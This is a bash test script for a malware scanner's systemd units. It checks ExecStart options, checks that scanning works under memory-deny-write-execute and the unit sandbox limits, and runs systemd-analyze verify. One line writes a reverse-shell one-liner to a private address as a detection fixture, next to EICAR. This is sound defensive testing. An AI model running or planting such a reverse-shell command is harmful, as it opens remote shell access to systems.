#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# t-systemd.sh - the systemd units in contrib/systemd:
#  * the options each ExecStart= passes are ones the program knows
#    (`--help` of mdewatch, mdescan and `mdescan definitions`);
#  * `systemd-analyze verify` accepts every unit.  It checks that the
#    ExecStart= programs exist, so it runs on a temporary copy of the
#    units whose /usr/bin/mdescan and /usr/sbin/mdewatch are this
#    build's binaries, with the man pages on MANPATH for Documentation=;
#  * the engine works under MemoryDenyWriteExecute=yes: mdescan (and,
#    as root with fanotify, mdewatch in block mode) run with the same
#    restriction (prctl PR_SET_MDWE, what systemd uses on kernels that
#    have it) find what they find without it: YARA, vectorscan byte
#    signatures, and PCRE2 file-name IOCs whose JIT cannot map code;
#  * as root, the parser cage works under the capability bounding set
#    and the system call filter of mdescan-scan, mdewatch and mdescand
#    (setpriv and unit-sandbox apply them; the @groups are expanded by
#    systemd-analyze): on, its workers with a user of their own, the
#    same findings and no error; and without CAP_SETUID, uid 0 without
#    capabilities.
#
# Exit status: 0 pass, 1 fail, 77 skip (systemd-analyze not installed;
# the option checks have passed by then).
set -eu
. "$(dirname "$0")/lib.sh"

MDEWATCH=${MDEWATCH:-$(dirname "$MDESCAN")/../mdewatch/mdewatch}
UNITS=$TOPSRC/contrib/systemd
ALL="mdewatch.service mdescan-scan.service mdescan-scan.timer
	mdescan-update.service mdescan-update.timer"

for u in $ALL; do
	[ -r "$UNITS/$u" ] || fail "missing $UNITS/$u"
done

# exec_opts UNIT: the --options of the unit's ExecStart= (with its
# continuation lines)
exec_opts() {
	awk '/^ExecStart=/ { on = 1 } on { print; if (!/\\$/) on = 0 }' "$1" |
		grep -o -- ' --[a-z][a-z0-9-]*' | sed 's/^ //' | sort -u
}

# known_opts UNIT HELP: every ExecStart= option of UNIT is in HELP.
known_opts() {
	local o
	for o in $(exec_opts "$UNITS/$1"); do
		grep -q -e "$o\\b" "$2" || fail "$1: ExecStart= option $o is not in the program's --help"
	done
}

step "ExecStart= uses the installed paths and options the programs know"
grep -q '^ExecStart=/usr/sbin/mdewatch ' "$UNITS/mdewatch.service" || fail "mdewatch is not /usr/sbin/mdewatch"
grep -q '^ExecStart=/usr/bin/mdescan --quick --nice -i --json --ecs /var/log/mdescan/findings.jsonl --lock /run/mdescan-scan.lock$' \
	"$UNITS/mdescan-scan.service" || fail "unexpected mdescan-scan ExecStart="
grep -q '^StandardOutput=truncate:/var/log/mdescan/last-scan.json$' \
	"$UNITS/mdescan-scan.service" || fail "mdescan-scan does not write /var/log/mdescan/last-scan.json"
grep -q '^LogsDirectory=mdescan$' "$UNITS/mdescan-scan.service" ||
	fail "mdescan-scan.service writes /var/log/mdescan without LogsDirectory=mdescan"
grep -q '^ExecStart=/usr/bin/mdescan definitions update --from \${MDESCAN_MIRROR}' \
	"$UNITS/mdescan-update.service" || fail "unexpected mdescan-update ExecStart="
"$MDEWATCH" --help >"$T/watch.help" 2>&1 || fail "mdewatch --help failed"
"$MDESCAN" --help >"$T/scan.help" 2>&1 || fail "mdescan --help failed"
"$MDESCAN" definitions >"$T/defs.help" 2>&1 || :
known_opts mdewatch.service "$T/watch.help"
known_opts mdescan-scan.service "$T/scan.help"
known_opts mdescan-update.service "$T/defs.help"
grep -q '^\[Install\]' "$UNITS/mdescan-scan.service" &&
	fail "mdescan-scan.service has [Install]: the timer starts it"
grep -q '^\[Install\]' "$UNITS/mdescan-update.service" &&
	fail "mdescan-update.service has [Install]: the timer starts it"

step "MemoryDenyWriteExecute: the engine works without W+X memory"
# mdwe CMD...: run CMD with PR_SET_MDWE (refuse W+X and gaining X); the
# process becomes CMD (exec), so `mdwe CMD &` leaves CMD's pid in $!
mdwe() {
	"$PYTHON" -c '
import ctypes, os, sys
if ctypes.CDLL(None, use_errno=True).prctl(65, 1, 0, 0, 0) != 0:
    sys.exit(77)
os.execvp(sys.argv[1], sys.argv[1:])' "$@"
}
mkdir -p "$T/defs" "$T/scan"
cp "$TOPSRC"/sigdb/*.hsb "$TOPSRC"/sigdb/*.ndb "$TOPSRC"/rules/*.yar "$T/defs/"
printf '# t-systemd IOC\n\\/evil[0-9]+\\.bin$;80\n' >"$T/defs/t-filename-iocs.txt"
make_eicar "$T/scan/eicar.com"
# built at run time, so that this file itself matches no rule
printf 'bash -i >& /dev/%s/10.0.0.1/4444 0>&1\n' tcp >"$T/scan/rs.sh"
echo hello >"$T/scan/evil12.bin"
echo hello >"$T/scan/clean.txt"
scan() {
	"$@" "$MDESCAN" --no-cache --no-history --no-summary -d "$T/defs" "$T/scan" |
		sort >"$T/found" || :
}
scan
[ "$(grep -c FOUND "$T/found")" -eq 3 ] || { cat "$T/found" >&2; fail "expected 3 findings without MDWE"; }
mv "$T/found" "$T/found.plain"
if mdwe true; then
	scan mdwe
	diff -u "$T/found.plain" "$T/found" >&2 || fail "findings differ under MDWE"
	# and the process really was restricted
	mdwe python3 -c 'import mmap; mmap.mmap(-1, 4096, prot=7)' 2>/dev/null &&
		fail "PR_SET_MDWE did not refuse a W+X mapping"
	if is_root && [ -r /proc/filesystems ]; then
		M=$T/m
		mkdir -p "$M"
		if mount -t tmpfs -o size=8m,mode=0755 mdescan-t-systemd "$M" 2>/dev/null; then
			MOUNTS+=("$M")
			make_eicar "$M/eicar.com"
			"$PYTHON" -c 'import ctypes, os, sys
ctypes.CDLL(None).prctl(65, 1, 0, 0, 0)
os.execv(sys.argv[1], sys.argv[1:])' "$MDEWATCH" --mode block --path "$M" \
				-d "$T/defs" --no-cache --pidfile "$T/w.pid" \
				--stats-file "$T/w.json" --ready-file "$T/ready" 2>"$T/w.err" &
			WPID=$!
			BGPIDS+=("$WPID")
			if watch_ready "$WPID"; then
				cat "$M/eicar.com" >/dev/null 2>&1 && fail "mdewatch under MDWE let EICAR be read"
				watch_stop "$WPID"
			fi
		fi
	fi
else
	step "PR_SET_MDWE not supported by this kernel: engine not run under it"
fi

command -v systemd-analyze >/dev/null 2>&1 || skip "systemd-analyze not installed: units not verified"

# syscalls NAME...: the system calls of NAMEs (names and @groups, which
# systemd-analyze expands, groups within groups too), one per line
syscalls() {
	local n
	for n in "$@"; do
		case $n in
		@*) systemd-analyze syscall-filter "$n" |
			awk 'NR > 1 && $1 !~ /^#/ && NF { print $1 }' |
			while read -r m; do syscalls "$m"; done ;;
		*) echo "$n" ;;
		esac
	done
}

# under_unit UNIT CMD...: CMD with the unit's capability bounding set
# and system call filter (the allow-list of its SystemCallFilter= lines,
# unshare refused with RestrictNamespaces=yes), as systemd would run it
under_unit() {
	local u=$UNITS/$1 caps ns=
	shift
	caps=$(sed -n 's/^CapabilityBoundingSet=//p' "$u" | tr ' ' '\n' |
		sed -n 's/^CAP_\(.*\)/+\1/p' | tr 'A-Z' 'a-z' | paste -sd, -)
	grep -q '^RestrictNamespaces=yes' "$u" && ns=-n
	# a sanitizer build's leak check stops the world with ptrace, which
	# the unit's filter refuses: it is run by the other tests
	# shellcheck disable=SC2046 # one word per system call
	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
	setpriv --bounding-set "-all,$caps" --inh-caps -all -- \
		"$UNIT_SANDBOX" $ns $(syscalls $(sed -n 's/^SystemCallFilter=//p' "$u") | sort -u) \
		-- "$@"
}

if is_root && command -v setpriv >/dev/null 2>&1 && [ -x "${UNIT_SANDBOX:-}" ]; then
	for u in mdescan-scan.service mdewatch.service mdescand.service; do
		step "$u: the parser cage works under the unit's capabilities and system call filter"
		under_unit "$u" "$MDESCAN" -V >"$T/v" 2>&1 || { cat "$T/v" >&2; fail "$u: mdescan -V failed"; }
		grep 'parser cage' "$T/v" >&2
		grep -q '^parser cage on: seccomp filter, rlimits.*, uid [1-9][0-9]* gid [1-9][0-9]*, no capabilities' "$T/v" ||
			fail "$u: the cage is not on with the workers' own user"
		scan under_unit "$u"
		diff -u "$T/found.plain" "$T/found" >&2 || fail "$u: findings differ under the unit's limits"
		grep -q ERROR "$T/found" && fail "$u: errors under the unit's limits"
	done
	# and without CAP_SETUID (a unit edited down): uid 0, no capabilities
	step "without CAP_SETUID: the workers keep uid 0 without capabilities, and scan"
	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
		setpriv --bounding-set -all,+dac_read_search --inh-caps -all -- "$MDESCAN" -V >"$T/v" 2>&1
	grep -q '^parser cage on: .*uid 0 without capabilities' "$T/v" || { cat "$T/v" >&2; fail "not said"; }
	scan env ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" \
		setpriv --bounding-set -all,+dac_read_search --inh-caps -all --
	diff -u "$T/found.plain" "$T/found" >&2 || fail "findings differ without CAP_SETUID"
else
	step "not root (or no setpriv): the units' limits not applied to the cage"
fi

step "systemd-analyze verify accepts every unit"
V=$T/units
mkdir -p "$V" "$T/man/man1" "$T/man/man5" "$T/man/man8"
for u in $ALL; do
	sed -e "s#/usr/bin/mdescan#$MDESCAN#g" -e "s#/usr/sbin/mdewatch#$MDEWATCH#g" \
		"$UNITS/$u" >"$V/$u"
done
cp "$TOPSRC"/man/*.1 "$T/man/man1/"
cp "$TOPSRC"/man/*.8 "$T/man/man8/"
# all at once: each run costs seconds (man(1) looks the pages up)
if command -v man >/dev/null 2>&1; then
	# shellcheck disable=SC2086
	(cd "$V" && MANPATH=$T/man systemd-analyze verify $ALL) >"$OUT" 2>&1 ||
		{ cat "$OUT" >&2; fail "systemd-analyze verify failed"; }
else
	# shellcheck disable=SC2086
	(cd "$V" && systemd-analyze verify --man=no $ALL) >"$OUT" 2>&1 ||
		{ cat "$OUT" >&2; fail "systemd-analyze verify failed"; }
fi
# it only warns (exit 0) about unknown settings and bad values
[ ! -s "$OUT" ] || { cat "$OUT" >&2; fail "systemd-analyze verify: warnings"; }
exit 0
